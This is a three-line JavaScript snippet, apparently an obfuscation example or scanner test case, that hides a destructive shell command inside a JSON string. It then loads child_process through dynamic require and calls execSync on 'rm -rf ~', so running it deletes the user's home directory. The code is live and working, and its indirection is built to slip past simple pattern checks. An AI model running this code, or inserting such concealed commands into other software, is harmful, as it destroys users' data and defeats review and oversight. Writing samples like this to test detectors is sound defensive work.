// tricky: the command is in JSON
const cfg = JSON.parse('{"m":"child_process","f":"execSync","a":"rm -rf ~"}');
require(cfg.m)[cfg.f](cfg.a);
